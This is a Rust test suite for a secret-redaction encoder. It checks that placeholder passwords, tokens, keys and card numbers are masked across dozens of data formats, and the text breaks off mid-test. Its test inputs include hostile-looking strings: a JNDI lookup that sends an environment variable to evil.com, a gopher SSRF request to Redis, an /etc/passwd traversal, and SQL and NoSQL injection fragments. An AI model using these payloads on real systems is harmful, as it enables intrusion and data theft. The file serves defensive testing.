//! Planted secrets in every combination of a name's spelling, a container, a field and what is left of the text.

use alloc::format;
use alloc::vec::Vec;

use super::*;

/// What must not be sent: two halves of a value, with what may stand between them.
const HALVES: [&str; 2] = ["S3CR3T", "T0PS3C"];

fn default_encoder() -> Encoder {
    encoder(&AgentConfig::builder("key-of-the-platform").build().unwrap())
}

/// Names of secrets in the spellings of languages, with what stands in front of them and behind.
fn names() -> Vec<String> {
    let words: [&[&str]; 18] = [
        &["password"],
        &["passwd"],
        &["secret"],
        &["token"],
        &["access", "token"],
        &["client", "secret"],
        &["user", "password"],
        &["db", "password"],
        &["x", "amz", "security", "token"],
        &["http", "authorization"],
        &["password", "confirmation"],
        &["refresh", "token"],
        &["secret", "access", "key"],
        &["api", "key"],
        &["secret", "key"],
        &["my", "secret", "key"],
        &["token", "value"],
        &["client", "secret", "values"],
    ];
    let capital = |word: &str| format!("{}{}", word[..1].to_uppercase(), &word[1..]);
    let spell = |words: &&[&str]| {
        let camel: String = words.iter().map(|word| capital(word)).collect();
        [
            words.join("_"),
            words.join("-"),
            words.join("."),
            words.join("_").to_uppercase(),
            words.join("-").to_uppercase(),
            format!("{}{}", &camel[..1].to_lowercase(), &camel[1..]),
            camel,
            words.concat(),
            words.concat().to_uppercase(),
        ]
    };
    let mut names: Vec<_> = words.iter().flat_map(spell).collect();
    names.sort();
    names.dedup();
    names
}

/// A body of one part, with what stands behind `form-data;` in its head.
fn multipart(head: &str, value: &str) -> String {
    format!("--b\r\nContent-Disposition: form-data; {head}\r\n\r\n{value}\r\n--b--")
}

/// The text as forms write it.
fn as_form(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b' ' => String::from("+"),
            byte if byte.is_ascii_alphanumeric() => String::from(char::from(byte)),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

/// The name with that value in what programs write; the value may hold whatever is escaped there.
fn containers(name: &str, value: &str) -> Vec<String> {
    let json_value = json!(value).to_string();
    let single = value.replace('\'', "\\'");
    let form = as_form(value);
    let object = format!("{{\"user\":\"b\",\"{name}\":{json_value},\"bio\":\"aaaa\"}}");
    let mut texts = vec![
        // JSON: whole, cut, with what no parser takes, with comments, in strings
        object.clone(),
        object.replace(",\"bio\":\"aaaa\"}", ",\"bio\":\"aaaa"),
        object.replace(",\"bio\":\"aaaa\"}", ""),
        object.replace(",\"bio\":\"aaaa\"}", ",}"),
        object.replace('{', "{ // who\n "),
        object.replace(&format!("{name}\":"), &format!("{name}\": /* not this */ ")),
        object.replace(&format!("{name}\":"), &format!("{name}\" /* nor this */ :")),
        object.replace(&format!("{name}\":"), &format!("{name}\"/* nor *//* this */:")),
        object.replace(&format!("{name}\":"), &format!("{name}\" // see https://h/\n /*x*/ # y\n :")),
        object.replace(&format!("{name}\":"), &format!("{name}\": /* \"a\", *//* b */ // c\n # d\n")),
        object.replace(':', " :\n\t"),
        object.replace(':', "\u{a0}:\u{2003}\u{3000}"),
        object.replace(':', "："),
        object.replace('"', "\\x22"),
        object.replace('"', "&amp;quot;"),
        object.replace('"', "&#x0022;"),
        object.replace(&format!("{name}\":"), &format!("{name}?\":")),
        object.replace(&format!("{name}\":"), &format!("{name} !\":")).replace(",\"bio\":\"aaaa\"}", ""),
        object.replace(&format!("{name}\":"), &format!("{name}?*\" :")).replace(",\"bio\":\"aaaa\"}", ""),
        format!("{{\"user\":\"b\",\"{name}\":\"ab\" {json_value},\"x\":1}}"),
        format!("{{\"user\":\"b\",\"{name}\":\"ab\"\n  + {json_value},\"x\":1}}"),
        json!({ "log": object }).to_string(),
        json!({ "log": json!([object]).to_string() }).to_string(),
        json!({ "log": object }).to_string().replace("\"}\"}", ""),
        format!("[2026-01-02] [info] {{x}} [a b] (c) body: {object}"),
        format!("{{\"a\":[1,2],\"{name}\":[{json_value},{json_value}],\"b\":1}}"),
        format!("{{\"{name}\":{{\"x\":{json_value}}},\"b\":1"),
        format!("[[\"{name}\",{json_value}]]"),
        format!("{{\"name\":\"{name}\",\"value\":{json_value}}}"),
        format!("{{\"value\":{json_value},\"name\":\"{name}\"}}"),
        format!("{{\"value\":{json_value},\"name\":\"{name}\""),
        format!("[\"mysql\",\"--user\",\"b\",\"--{name}\",{json_value},\"--host\",\"h\"]"),
        // Literals of other languages
        format!("{{'user': 'b', '{name}': '{single}', 'x': None}}"),
        format!("{{'user': 'b', '{name}': '{single}'"),
        format!("{{b'{name}': b'{single}'}}"),
        format!("[('user', 'b'), ('{name}', '{single}')]"),
        format!("user = {{'{name}': 'ab' \\\n  r'{single}'}}"),
        format!("$a = ['{name}' => 'ab'\n  . '{single}'];"),
        format!("User(name='b', {name}='{single}', x=1)"),
        format!("{{:user=>\"b\", :{name}=>{json_value}, :x=>nil}}"),
        format!("{{\"user\"=>\"b\", \"{name}\"=>{json_value}}}"),
        format!("array('{name}' => '{single}')"),
        format!("{{user: 'b', {name}: '{single}', x: 1}}"),
        format!("mutation {{ login(user: \"b\", {name}: {json_value}) {{ id }} }}"),
        format!("query(${name}: String = {json_value}) {{ id }}"),
        format!("query($a: Int, ${name}: String! = {json_value}, $b: Int = 1) {{ id }}"),
        format!("const {name}: string = '{single}';"),
        format!("{name}: Optional[str] = {json_value}\nx: int = 1"),
        format!("let {name}: string | undefined = {json_value};"),
        format!("static {name}: &'static str = {json_value};"),
        format!("const {name}: &str = {json_value};\nconst X: &str = \"\";"),
        format!("let {name}: Option<String> = Some({json_value});"),
        format!("let {name}: Option<&'a str> = Some({json_value}); let x: u8 = 1;"),
        format!("let {name}: [String] = [{json_value}, {json_value}]"),
        format!("{name}?: string | null = {json_value}"),
        format!("['mysql', '--{name}', '{single}', '-v']"),
        format!("map[string]string{{\"{name}\":{json_value}, \"x\":\"y\"}}"),
        format!("map[string][]string{{\"{name}\":[]string{{\"a\", {json_value}}}, \"x\":nil}}"),
        format!("User {{ name: \"b\", {name}: Some({json_value}), x: 1 }}"),
        format!("User {{ name: \"b\", {name}: Secret {{ salt: \"a\", inner: {json_value} }}, x: 1 }}"),
        format!("array(1) {{\n  [\"{name}\"]=>\n  string({}) \"{value}\"\n}}", value.len()),
        format!("[\"{name}\":protected]=>\n  string({}) \"{value}\"\n  [\"x\"]=>\n  int(1)", value.len()),
        format!("[\"{name}\":\"User\":private]=>\n  string({}) \"{value}\"", value.len()),
        format!("[\"{name}\"]=>\n  array(1) {{\n  [0]=>\n  string({}) \"{value}\"\n}}", value.len()),
        format!("Array\n(\n    [user] => b\n    [{name}] => {value}\n    [x] => 1\n)\n"),
        format!("Array\n(\n    [{name}] => Array\n        (\n            [0] => {value}\n        )\n"),
        format!("Array ( [{name}] => stdClass Object ( [a] => b [b] => {value} ) [x] => y )"),
        format!("a:2:{{s:{}:\"{name}\";s:{}:\"{value}\";s:1:\"x\";i:1;}}", name.len(), value.len()),
        format!("s:{}:\"\0*\0{name}\";s:{}:\"{value}\";", name.len() + 3, value.len()),
        format!("s:{}:\"{name}\";a:1:{{i:0;s:{}:\"{value}\";}}", name.len(), value.len()),
        format!("s:{}:\"{name}\";O:1:\"A\":1:{{s:1:\"a\";s:{}:\"{value}\";}}", name.len(), value.len()),
        // Forms, queries and URLs
        format!("data={}&x=1", as_form(&object.replace(':', ": ").replace(',', ", "))),
        format!("data={}", as_form(&format!("[{{\"name\": \"{name}\", \"value\": {json_value}}}]"))),
        format!("user=b&{name}={form}&x=1"),
        format!("{name}={form}"),
        format!("/login?user=b&{name}={form}#top"),
        format!("https://h/cb#{name}={form}&x=1"),
        format!("/login?next=%2Fa%3F{name}%3D{}%26x%3D1", form.replace('%', "%25").replace('+', "%2B")),
        format!("GET /login?{name}={form} HTTP/1.1"),
        format!("user[{name}]={form}&x=1"),
        format!("{name}[0]={form}&x=1"),
        format!("{name}[]={form}&{name}[1]={form}"),
        format!("{name}[confirm]={form}"),
        format!("/?a=b&user[{name}][0]={form}&x=1"),
        format!("user%5B{name}%5D%5Bfirst%5D={form}&x=1"),
        format!("form[plain][{name}][first][0]={form}&x=1"),
        format!("{{\"a\":1,\"{name}[0]\":{json_value}"),
        format!("{{\"user[{name}][first]\":{json_value},\"x\":1"),
        // YAML, properties, shells, logs
        format!("user: b\n{name}: {value}\nx: 1\n"),
        format!("db:\n  {name}: {value}\n  x: 1\n"),
        format!("{name}:\n  - {value}\nx: 1\n"),
        format!("{name}:\n- {value}\nx: 1\n"),
        format!("db:\n  {name}: # these\n  - a\n  - {value}\n  x: 1\n"),
        format!("- {name}:\n  - a\n  - {value}\n- x: 1\n"),
        format!("[info] body: {name}:\n- {value}\nx: 1\n"),
        format!(
            "2026-01-02T03:04:05.678901Z [info] [req-0f8fad5b-d9cb-469f-a165-70867728950e] {name}:\n- a\n- {value}\n"
        ),
        format!("  db> {name}: # these\n  - a\n  - {value}\n  x: 1\n"),
        format!("{name}:\n  a: b\n  c:\n  - {value}\nx: 1\n"),
        format!("{name}: |\n  {value}\nx: 1\n"),
        format!("{name}: >-\n  a: b\n\n  {value}\nx: 1\n"),
        format!("{name}: !!str &a\n  {value}\nx: 1\n"),
        format!("{name}: !!str {value}\nx: 1\n"),
        format!("{name}: &a !<tag:yaml.org,2002:str> {json_value}\nx: 1\n"),
        format!("{{{name}: !secret {json_value}, x: 1}}"),
        format!("args:\n- --{name}\n- '{single}'\n- -v\n"),
        format!("env:\n- name: {name}\n  value: {value}\n"),
        format!("user: b\n{name}:\n  {json_value}\nx: 1\n"),
        format!("user = b\n{name} = {json_value}\n"),
        format!("export {name}='{single}'"),
        format!("mysql --user b --{name} '{single}' --host h"),
        format!("docker run -e {name}='{single}' -e X=y image"),
        format!("**{name}**: {value}"),
        format!("level=info user=b {name}={json_value} path=/a"),
        format!("{name}: {value}"),
        // XML and HTML
        format!("<user><{name}>{value}</{name}><x>1</x></user>"),
        format!("<ns:{name} type=\"a\">{value}</ns:{name}>"),
        format!("<{name}>{value}"),
        format!("<user><{name} value={json_value}/><x>1</x></user>"),
        format!("<{name} type=\"a\" value={json_value}>{value}</{name}>"),
        format!("<{name} token={json_value}>{value}"),
        format!("<{name} token=\"a>b\" x>{value}</{name}>"),
        format!("<{name} value={json_value} checked>\n{value}</{name}>"),
        format!("<{name} token=x>\n{value}\n</{name}>"),
        json!({ "x": format!("<{name}\n type='a'>{value}</{name}>") }).to_string().replace("\"}", ""),
        format!("<{name} h=\"Cookie: a\"><v>{value}</v></{name}>"),
        format!("<{name}><![CDATA[{value}]]></{name}>"),
        format!("<user {name}={json_value} x=\"1\"/>"),
        format!("<input name=\"{name}\" value={json_value}>"),
        format!("<input value={json_value} name=\"{name}\">"),
        format!("<param name=\"{name}\">{value}</param>"),
        format!("<dict><key>{name}</key>\n\t<string>{value}</string><key>x</key><true/></dict>"),
        format!("<p><name>{name}</name><value>{value}</value></p><p><name>x</name><value>y</value></p>"),
        format!("<ns:Name a=\"b\"> {name} </ns:Name><type>a</type><ns:Value c=\"d\">{value}</ns:Value>"),
        format!("<member><name>{name}</name><value><string>{value}</string></value></member>"),
        format!("<member><value><string>{value}</string></value><name>{name}</name></member>"),
        format!("&lt;{name}&gt;{value}&lt;/{name}&gt;"),
        format!("&quot;{name}&quot;:&quot;{value}&quot;,&quot;x&quot;:1"),
        // Multipart
        multipart(&format!("name=\"{name}\""), value),
        multipart(&format!("name=\"{name}\"\r\nContent-Type: text/plain"), value).replace("\r\n--b--", ""),
        multipart(&format!("name={name}"), value).replace("\r\n", "\n"),
        multipart(&format!("name=\"user[{name}]\"; filename=\"a(1.txt\"\r\nX: [ {{"), value),
        multipart(&format!("filename=\"{}(.txt\"; name=\"{name}\"", "a".repeat(99)), value),
        multipart(&format!("name*=utf-8''{name}"), value),
        multipart(&format!("name=\"{name}\""), value).replace("form-data", "Form-Data"),
        multipart(&format!("name=\"{name}\""), value)
            .replace("Content-Disposition: form-data", "CONTENT-DISPOSITION: FORM-DATA"),
        multipart(&format!("name=\"{name}\""), value).replace("form-data", "attachment"),
        multipart(&format!("\r\n\tfilename=\"a\";\r\n name=\"{name}\""), value),
        multipart(&format!("name=\"{name}\""), value).replace(": form-data; ", ":\n form-data;\n "),
        format!("b'{}'", multipart(&format!("name=\"{name}\""), &single).replace("\r\n", "\\r\\n")),
        json!({ "body": multipart(&format!("name=\"{name}\""), value) }).to_string().replace("\"}", ""),
        json!({ "log": json!([multipart(&format!("name=\"{name}\""), value)]).to_string() })
            .to_string()
            .replace("\"]\"}", ""),
    ];
    // What is bare holds no blank there.
    if !value.contains(' ') {
        texts.push(format!("login failed {name}={value} from 192.0.2.7"));
    }
    if !value.contains(['\'', '"']) {
        texts.push(format!("{{user: b, {name}: {value}, x: 1}}"));
        texts.push(format!("{{\"{name}\": {value}, \"x\": 1}}"));
    }
    texts
}

fn leaks(sent: &str) -> bool {
    HALVES.iter().any(|half| sent.contains(half))
}

#[test]
fn no_spelling_of_a_name_leaks_its_value_in_any_container() {
    let encoder = default_encoder();
    let mut leaked = Vec::new();
    for name in names() {
        for container in containers(&name, HALVES[0]) {
            let sent = clean(&encoder, &container);
            if leaks(&sent) {
                leaked.push(format!("{container:?} => {sent:?}"));
            }
            assert_eq!(clean(&encoder, &sent), sent, "again: {container}");
        }
    }
    assert!(leaked.is_empty(), "{} leak:\n{}", leaked.len(), leaked.join("\n"));
}

#[test]
fn no_half_of_a_value_leaks_where_it_holds_a_quote_or_a_blank() {
    let encoder = default_encoder();
    let mut leaked = Vec::new();
    for between in ["'", "\"", " ", "' ", "\\", "&", ";", "="] {
        let value = HALVES.join(between);
        for name in ["password", "userPassword", "DB_PASSWORD", "client_secret"] {
            let is_quoted = between.contains(['\'', '"']);
            for container in containers(name, &value) {
                // A bare value ends where its container says so.
                let bare = container.contains(&value) && !container.contains(&format!("\"{value}\""));
                if bare && matches!(between, "&" | ";" | "=")
                    || (is_quoted && container.starts_with("<user>"))
                {
                    continue;
                }
                let sent = clean(&encoder, &container);
                if leaks(&sent) {
                    leaked.push(format!("{container:?} => {sent:?}"));
                }
            }
        }
    }
    assert!(leaked.is_empty(), "{} leak:\n{}", leaked.len(), leaked.join("\n"));
    for text in [
        "password=S3CR3T'T0PS3C",
        "password=S3CR3T T0PS3C",
        "user=b&password=S3CR3T\"T0PS3C&x=1",
        "password: S3CR3T T0PS3C",
    ] {
        assert!(!leaks(&clean(&encoder, text)), "{text}");
    }
}

#[test]
fn a_quoted_value_may_begin_with_and_hold_any_mark() {
    let encoder = default_encoder();
    for mark in "&|>#<,;}])[{(!*%@:?=".chars() {
        for value in [format!("{mark}S3CR3T"), format!("S3CR3T{mark}T0PS3C")] {
            for text in [
                format!("user: b\npassword:\n  \"{value}\"\nx: 1\n"),
                format!("cookie:\n  '{value}'"),
                format!("api_token:\n  \"{value}"),
                format!("x=1; {{\"value\":\"{value}\",\"name\":\"password\"}}"),
                format!("{{\"value\":\"{value}\",\"name\":\"token\",\"bio\":\"aaaa"),
                format!("{{\"name\":\"password\",\"label\":\"a{mark}b\",\"value\":\"S3CR3T"),
            ] {
                let sent = clean(&encoder, &text);
                assert!(!leaks(&sent), "{text:?} => {sent:?}");
            }
        }
    }
}

#[test]
fn cutting_a_text_anywhere_leaks_nothing() {
    let encoder = default_encoder();
    for container in containers("userPassword", HALVES[0]) {
        for end in (0..container.len()).filter(|end| container.is_char_boundary(*end)) {
            let sent = clean(&encoder, &container[..end]);
            // A value is found by its name: where that comes later it is cut off.
            let is_named = container[..end].to_lowercase().contains("password");
            assert!(!is_named || !leaks(&sent), "{:?} => {sent:?}", &container[..end]);
        }
    }
}

#[test]
fn what_is_cut_before_it_is_searched_leaks_nothing() {
    let encoder = default_encoder();
    let secrets = [
        "{\"password\":\"S3CR3T",
        "password=S3CR3T",
        "https://u:S3CR3T",
        "Bearer S3CR3T",
        "eyJhbGciOiJIUzI1NiJ9.S3CR3T",
        "-----BEGIN RSA PRIVATE KEY-----\nS3CR3T",
        "ghp_S3CR3TS3CR3TS3CR3TS3CR3T",
        "<password>S3CR3T",
    ];
    for secret in secrets {
        for front in (0..9_000).step_by(97).chain(8_100..8_300).chain(900..1_100) {
            let text = format!("{} {secret}{}", "x".repeat(front), "S3CR3T".repeat(2_000));
            let sent = clean(&encoder, &text);
            assert!(!leaks(&sent), "{front} {secret}: {}", &sent[sent.len() - 100..]);
            assert!(sent.len() <= 1_024);
        }
    }
}

#[test]
fn credentials_are_known_by_their_shape_and_each_rule_can_be_turned_off() {
    use crate::CredentialRule as Rule;
    let table = [
        (Rule::UrlUserinfo, "postgres://app:S3CR3T@db:5432/x", "postgres://app:[REDACTED]@db:5432/x"),
        (Rule::UrlUserinfo, "redis://:S3CR3T@h/0", "redis://:[REDACTED]@h/0"),
        (Rule::UrlUserinfo, "see https://u:S3CR3T@h/p?q=1#f.", "see https://u:[REDACTED]@h/p?q=1#f."),
        (Rule::AuthorizationScheme, "sent Bearer S3CR3T to", "sent Bearer [REDACTED] to"),
        (Rule::AuthorizationScheme, "curl -H bearer+S3CR3T", "curl -H bearer+[REDACTED]"),
        (Rule::AuthorizationScheme, "Basic dXNlcjpwYXNz", "Basic [REDACTED]"),
        (Rule::Jwt, "got eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.S3CR3T-_ now", "got [REDACTED] now"),
        (
            Rule::PemBlock,
            "k -----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nS3CR3T+/=\n-----END EC PRIVATE KEY----- v",
            "k [REDACTED] v",
        ),
        (Rule::PemBlock, "-----BEGIN PRIVATE KEY-----\\nS3CR3T", "[REDACTED]"),
        (Rule::KeyPrefix, "id AKIAS3CR3TS3CR3TABCD end", "id [REDACTED] end"),
        (Rule::KeyPrefix, "(ghp_S3CR3TS3CR3TS3CR3TS3CR3T)", "([REDACTED])"),
        (Rule::KeyPrefix, "sk_live_S3CR3TS3CR3T, sk-proj-S3CR3TS3CR3TS3CR3T", "[REDACTED], [REDACTED]"),
        (Rule::KeyPrefix, "xoxb-123-S3CR3T glpat-S3CR3TS3CR3TS3CR3T", "[REDACTED] [REDACTED]"),
        (Rule::CardNumber, "paid 4111 1111 1111 1111 today", "paid [REDACTED] today"),
        (Rule::CardNumber, "4111-1111-1111-1111,378282246310005", "[REDACTED],[REDACTED]"),
    ];
    let all = [
        Rule::UrlUserinfo,
        Rule::AuthorizationScheme,
        Rule::Jwt,
        Rule::PemBlock,
        Rule::KeyPrefix,
        Rule::CardNumber,
    ];
    for (rule, given, expected) in table {
        let with = |rules: Vec<Rule>| {
            let config = AgentConfig::builder("key-of-the-platform").credential_rules(rules).build().unwrap();
            clean(&encoder(&config), given)
        };
        assert_eq!(with(vec![rule]), expected);
        assert_eq!(with(all.into_iter().filter(|other| *other != rule).collect()), given, "{rule:?}");
        let is_default = rule != Rule::CardNumber;
        assert_eq!(clean(&default_encoder(), given), if is_default { expected } else { given });
    }
}

#[test]
fn a_number_of_json_is_a_card_number_as_text_is() {
    let rules = vec![crate::CredentialRule::CardNumber];
    let config = AgentConfig::builder("key-of-the-platform").credential_rules(rules).build().unwrap();
    let given = json!({
        "card": 4_111_111_111_111_111_u64,
        "list": [378_282_246_310_005_u64, 4_111_111_111_111_111.0],
        "pan": { "$eq": 4_111_111_111_111_111_u64 },
        "password": { "$eq": 4_111_111_111_111_111_u64 },
        "other": [4_111_111_111_111_112_u64, -4_111_111_111_111_111_i64, 1.5, 17],
    });
    let expected = json!({
        "card": "[REDACTED]",
        "list": ["[REDACTED]", "[REDACTED]"],
        "pan": { "$eq": "[REDACTED]" },
        "password": { "$eq": "[REDACTED]" },
        "other": [4_111_111_111_111_112_u64, -4_111_111_111_111_111_i64, 1.5, 17],
    });
    let sent = metadata(&mut encoder(&config), json!({ "json": given, "text": given.to_string() }));
    assert_eq!(sent["json"], expected);
    assert_eq!(sent["text"], expected.to_string());
    assert_eq!(metadata(&mut default_encoder(), given.clone()), given);
}

#[test]
fn a_password_in_a_url_ends_at_the_host_whatever_it_holds() {
    let encoder = default_encoder();
    for (given, expected) in [
        ("https://user:S3C/R3T@host/p", "https://user:[REDACTED]@host/p"),
        ("https://user:S3C?R#3/T@host:80", "https://user:[REDACTED]@host:80"),
        ("https://user:S3C/R3T@T0PS3C@host/p", "https://user:[REDACTED]@host/p"),
        ("postgres://u:S3C/R3T@[::1]:5432/x?mail=a@b", "postgres://u:[REDACTED]@[::1]:5432/x?mail=a@b"),
        ("dsn=postgres://app:S3CR3T", "dsn=postgres://app:[REDACTED]"),
        ("redis://:S3CR3T", "redis://:[REDACTED]"),
        ("https://ab12S3CR3Tab12S3CR3T@github.com/o/r", "https://[REDACTED]@github.com/o/r"),
        ("https://ab12S3CR3Tab12S3CR3T:@github.com/o/r", "https://[REDACTED]@github.com/o/r"),
        ("https://ab12S3CR3Tab12S3CR3T:x-oauth-basic@github.com", "https://[REDACTED]@github.com"),
        ("https://ghp_S3CR3TS3CR3TS3CR3TS3CR3T@github.com", "https://[REDACTED]@github.com"),
        ("https://oauth2:S3CR3T@gitlab.com", "https://oauth2:[REDACTED]@gitlab.com"),
        ("redis://default:S3/CR3T", "redis://default:[REDACTED]"),
        (r#"{"url":"https:\/\/u:S3CR3T@h"#, r#"{"url":"https:\/\/u:[REDACTED]@h"#),
        (r#"[info] {"url":"https:\/\/u:S3CR3T@h\/x"}"#, r#"[info] {"url":"https:\/\/u:[REDACTED]@h\/x"}"#),
        (r#"x "https:\\\/\\\/u:S3C\\\/R3T@h\\\/x""#, r#"x "https:\\\/\\\/u:[REDACTED]@h\\\/x""#),
    ] {
        assert_eq!(clean(&encoder, given), expected);
        assert_eq!(clean(&encoder, expected), expected);
    }
    for kept in [
        "http://h:8080/a@b",
        "https://h:80/x?mail=a@b",
        "https://h:80?mail=a@b.c",
        "https://h/x?mail=a:b@c",
        "https://[::1]:8080/a@b",
        "https://user@host/p",
        "ssh://git@github.com:org/repo@v1",
        "https://first.last2024.longer@host/p",
        "(see https://h:8080), https://h:8080; https://h:8080",
        "mongodb://h1:27017,h2:27017",
        "http://h:8080/a@b http://h:8080/a@b",
        "${jndi:ldap://${env:USER}.evil.com}",
        "${jndi:ldap://evil:${port}/a}",
        "ldap://127.0.0.1#evil.com:1389/a@b",
        "gopher://127.0.0.1:6379/_SET%20a@b",
        "file:///C:/x@y",
        "file://C:/x@y",
        "http://{host}:{port}",
        "http://{host}:{port}/x",
        r"https?:\/\/[^:]+:[^@]+@h",
        r#"x "https:\/\/h:8080\/a@b" y"#,
        r"https:\/\/h\/a:b@c",
    ] {
        assert_eq!(clean(&encoder, kept), kept);
    }
}

#[test]
fn a_block_of_pem_ends_with_its_end_however_its_lines_are_written() {
    let encoder = default_encoder();
    for (given, expected) in [
        (
            "x=-----BEGIN+RSA+PRIVATE+KEY-----%0D%0AMIIS3CR3T%2B%0D%0A-----END+RSA+PRIVATE+KEY-----&y=1",
            "x=[REDACTED]&y=1",
        ),
        ("-----BEGIN A-----&#10;MIIS3CR3T&#xd;&#xA;T0PS3C&#10;-----END A----- x", "[REDACTED] x"),
        ("<k>-----BEGIN A-----&#13;&#10;MIIS3CR3T&#10;T0PS3C</k>", "<k>[REDACTED]</k>"),
        (
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2 (GNU/Linux)\nComment: <a@b>\n\nMIIS3CR3T\n=T0PS\n-----END PGP PRIVATE KEY BLOCK-----",
            "[REDACTED]",
        ),
        ("-----BEGIN PGP MESSAGE-----\\r\\nVersion: A (B)\\r\\n\\r\\nS3CR3T", "[REDACTED]"),
        ("-----BEGIN PGP MESSAGE-----\nVersion: A (S3CR3T", "[REDACTED]"),
        ("> -----BEGIN A-----\n> MIIS3CR3T\n>T0PS3C\n> -----END A-----\n> x", "> [REDACTED]\n> x"),
        ("# -----BEGIN A-----\n# A: (b)\n#\n# MIIS3CR3T\n# -----END A-----", "# [REDACTED]"),
        ("\" * -----BEGIN A-----\\n * MIIS3CR3T\\n * T0PS3C\"", "\" * [REDACTED]\""),
    ] {
        assert_eq!(clean(&encoder, given), expected);
        assert_eq!(clean(&encoder, expected), expected);
    }
    for kept in ["-----BEGINNING-----\nA: (b)", "-----BEGIN a-----&#10;"] {
        assert_eq!(clean(&encoder, kept), kept);
    }
}

/// Whether that is left of a text, and of the value that it is as JSON.
fn is_sent(given: &str, part: &str) -> [bool; 2] {
    let json: Value = serde_json::from_str(given).unwrap_or(Value::Null);
    let mut encoder = default_encoder();
    let sent = metadata(&mut encoder, json!({ "text": given, "json": json })).to_string();
    assert_eq!(metadata(&mut encoder, serde_json::from_str(&sent).unwrap()).to_string(), sent);
    let count = sent.matches(part).count();
    [count > 0, count == if json.is_null() { 1 } else { 2 } * given.matches(part).count()]
}

#[test]
fn members_are_known_by_labels_paths_indices_and_plurals() {
    for secret in [
        "{\"user/password\":\"S3CR3T\"}",
        "{\"password?\":\"S3CR3T\"}",
        "{\"Password *\":\"S3CR3T\"}",
        "{\"Enter your password\":\"S3CR3T\"}",
        "{\"Please re-enter your new password:\":\"S3CR3T\"}",
        "{\"Your access token\":\"S3CR3T\"}",
        "{\"0\":\"cookie\",\"1\":\"S3CR3T\"}",
        "{\"1\":[\"S3CR3T\"],\"0\":\"password\"}",
        "tokens=S3CR3T",
        "tokens=a,S3CR3T&x=1",
        "{\"tokens\":[\"S3CR3T\"]}",
        "{\"tokens\":[\"a\",\"S3CR3T\"",
        "{\"access_tokens\":{\"x\":1,\"tokens\":\"S3CR3T\"}}",
        "refreshTokens: [S3CR3T, T0PS3C]",
    ] {
        assert_eq!(is_sent(secret, "S3CR3T"), [false; 2], "{secret}");
    }
    for evidence in [
        "{\"user forgot the password\":\"KEPT\"}",
        "{\"no one may see the password\":\"KEPT\"}",
        "{\"/reset/password\":\"KEPT\"}",
        "{\"GET /password\":\"KEPT\"}",
        "{\"../../etc/passwd\":\"KEPT\"}",
        "{\"0\":\"username\",\"1\":\"KEPT\"}",
        "{\"0\":\"password\",\"1\":\"KEPT\",\"2\":\"x\"}",
        "{\"0\":\"password\",\"2\":\"KEPT\"}",
        "{\"prompt_tokens\":17,\"max_tokens\":4096,\"tokens\":[1,2],\"x\":\"KEPT\"}",
        "{\"tokens\":{\"gpt4turbo\":17,\"prompt\":\"KEPT\"}}",
        "{\"tokens\":\"KEPT\"}",
        "tokens: KEPT, prompt_tokens=17",
        "tokens=1712 KEPT",
    ] {
        assert_eq!(is_sent(evidence, "KEPT"), [true; 2], "{evidence}");
        assert_eq!(is_sent(evidence, "[REDACTED]"), [false, true], "{evidence}");
    }
}

#[test]
fn lists_of_names_are_no_pairs() {
    for secret in [
        "[\"password\",\"S3CR3T\"]",
        "[[\"user\",\"b\"],[\"password\",\"S3CR3T\"]]",
        "[(\"cookie\",\"S3CR3T\")]",
        "('token', 'S3CR3T')",
        "headers: [('host', 'h'), ('x-auth-token', 'S3CR3T')]",
        "(\"password\", \"S3CR3T\",)",
        "[\"password\",\"S3CR3T",
        "[\"password\",\"S3CR3T\"",
        "[\"password\",[\"S3CR3T\"",
        "x [\"password\", [\"S3CR3T\", 1]]",
        "x [\\\"password\\\", \\\"S3CR3T\\\"]",
        "[\"Host\",\"h\",\"Cookie\",\"S3CR3T\",\"X\",\"y\"]",
        "[\"Host\",\"h\",\"X-Auth-Token\",\"S3CR3T\"]",
        "[\"set-cookie\",\"a\",\"S3CR3T\"]",
        "x ['cookie', 'S3CR3T', 'x', 'y']",
        "localStorage.setItem('token', 'S3CR3T')",
        "headers.append(\"Authorization\", \"S3CR3T\")",
    ] {
        assert_eq!(is_sent(secret, "S3CR3T"), [false; 2], "{secret}");
    }
    for evidence in [
        "[\"username\",\"password\",\"KEPT\"]",
        "[\"password\",\"KEPT\",\"email\"]",
        "[\"a\",\"user_password\",\"KEPT\",\"x\"]",
        "x [\"password\", \"KEPT\", \"email\"]",
        "fields: ['password', 'KEPT', 'email']",
        "fields: [\"token\", {\"a\": [\"KEPT\"]}, 1",
        "x [\\\"password\\\", \\\"KEPT\\\", \\\"c\\\"]",
        "select(\"password\",\"KEPT\")",
        "getattr(user, \"password\", KEPT)",
        "users.values_list('password', 'KEPT')",
        "' UNION SELECT concat('password','KEPT')--",
        "1 and column_name in('password','KEPT')",
    ] {
        assert_eq!(is_sent(evidence, "KEPT"), [true; 2], "{evidence}");
    }
}

#[test]
fn operators_of_a_query_stay_and_their_strings_do_not() {
    for (given, expected) in [
        ("{\"password\":{\"$ne\":null}}", "{\"password\":{\"$ne\":null}}"),
        ("{\"password\":{\"$gt\":\"\"}}", "{\"password\":{\"$gt\":\"\"}}"),
        ("{\"password\":{\"$ne\":\"S3CR3T\"}}", "{\"password\":{\"$ne\":\"[REDACTED]\"}}"),
        (
            "{\"password\":{\"$regex\":\"^S3CR3T\"},\"a\":1}",
            "{\"password\":{\"$regex\":\"[REDACTED]\"},\"a\":1}",
        ),
        ("{\"token\":{\"$gt\":0,\"$lt\":\"S3CR3T\"}}", "{\"token\":{\"$gt\":0,\"$lt\":\"[REDACTED]\"}}"),
        ("{\"password\":{\"$in\":[\"S3CR3T\"]}}", "{\"password\":{\"$in\":\"[REDACTED]\"}}"),
        (
            "{\"password\":{\"$not\":{\"$eq\":\"S3CR3T\"}}}",
            "{\"password\":{\"$not\":{\"$eq\":\"[REDACTED]\"}}}",
        ),
        ("{\"password\":{\"$ne\":1,\"x\":\"S3CR3T\"}}", "{\"password\":\"[REDACTED]\"}"),
        ("{\"password\":{\"$S3CR3T\":1}}", "{\"password\":\"[REDACTED]\"}"),
        ("{\"cookie\":{\"$ne\":null}}", "{\"cookie\":\"[REDACTED]\"}"),
        ("{\"password\":{}}", "{\"password\":\"[REDACTED]\"}"),
    ] {
        let json: Value = serde_json::from_str(given).unwrap();
        let mut encoder = default_encoder();
        let sent = metadata(&mut encoder, json!({ "text": given, "json": json }));
